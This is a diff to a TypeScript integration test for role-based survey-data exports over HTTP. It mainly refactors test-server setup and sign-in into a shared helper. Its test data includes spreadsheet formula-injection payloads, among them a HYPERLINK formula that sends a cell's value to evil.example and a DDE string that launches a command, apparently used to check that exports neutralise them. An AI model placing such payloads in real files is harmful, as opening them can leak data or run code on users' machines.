@@ -1,11 +1,11 @@
 // Exports over HTTP, for every role: who gets which file, who is refused, and what the files hold. The
 // answers come in through the real survey pages (plain form posts), with hostile open answers; the data
 // agreement is recorded in the database before the server starts, as the admin's CLI command does.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
 import { eq } from 'drizzle-orm';
 import { HttpSession } from '../support/http-client';
-import { startSeededServer, type SeededServer } from '../support/seeded-server';
+import { useSeededServer } from '../support/seeded-server';
 import { makeFirm } from '../../helpers/factories';
 import { makeRound, makeSignInUser } from '../../helpers/scan-factories';
 import { readSav } from '../../helpers/sav-reader';
@@ -35,16 +35,11 @@ async function seed(db: Database) {
 	return { owner, manager, adviser, otherOwner, researcher, outsider, revoked, firm, otherFirm, round, otherRound };
 }
 
-let server: SeededServer<Awaited<ReturnType<typeof seed>>>;
-let s: Awaited<ReturnType<typeof seed>>;
+const server = useSeededServer(seed);
+const s = server.seeded;
 const sessions: Record<string, HttpSession> = {};
 
-async function signIn(email: string): Promise<HttpSession> {
-	const session = new HttpSession(server.baseUrl);
-	const res = await session.post('/login?/password', { email, password, returnTo: '/firms' });
-	if (res.status !== 303) throw new Error(`sign-in failed for ${email}: ${res.status}`);
-	return session;
-}
+const signIn = (email: string) => server.signIn(email, password);
 
 const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A10)', '\t=1+1', '\r=2+2'];
 
@@ -73,14 +68,9 @@ async function statuses(who: HttpSession, files: string[]) {
 }
 
 beforeAll(async () => {
-	server = await startSeededServer(seed);
-	s = server.seeded;
 	for (const [name, person] of Object.entries({ owner: s.owner, manager: s.manager, adviser: s.adviser, otherOwner: s.otherOwner, researcher: s.researcher, outsider: s.outsider, revoked: s.revoked })) {
 		sessions[name] = await signIn(person.email);
 	}
-});
-afterAll(async () => {
-	await server?.close();
 });
 
 describe('before k employees have answered', () => {
